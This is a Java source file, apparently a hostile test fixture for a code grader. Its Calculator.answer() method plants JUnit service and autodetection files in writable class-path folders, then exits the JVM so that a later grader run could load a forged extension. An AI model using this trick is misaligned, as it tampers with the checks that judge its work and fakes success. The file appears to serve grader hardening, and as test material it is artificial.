package hostile;

import java.nio.file.Files;
import java.nio.file.Path;

/**
 * Wrong (41). Plants a services file and JUnit properties in every folder of the class path it can
 * write, then ends the JVM so that the grader starts another one that could load them.
 */
public class Calculator {

    public int answer() {
        for (String entry : System.getProperty("java.class.path").split(java.io.File.pathSeparator)) {
            Path dir = Path.of(entry);
            if (Files.isDirectory(dir)) {
                try {
                    Files.createDirectories(dir.resolve("META-INF/services"));
                    Files.writeString(dir.resolve("META-INF/services/org.junit.jupiter.api.extension.Extension"),
                            "hostile.Forge\n");
                    Files.writeString(dir.resolve("junit-platform.properties"),
                            "junit.jupiter.extensions.autodetection.enabled=true\n");
                } catch (Exception ignored) {
                    // a folder it cannot write
                }
            }
        }
        System.exit(3);
        return 41;
    }
}
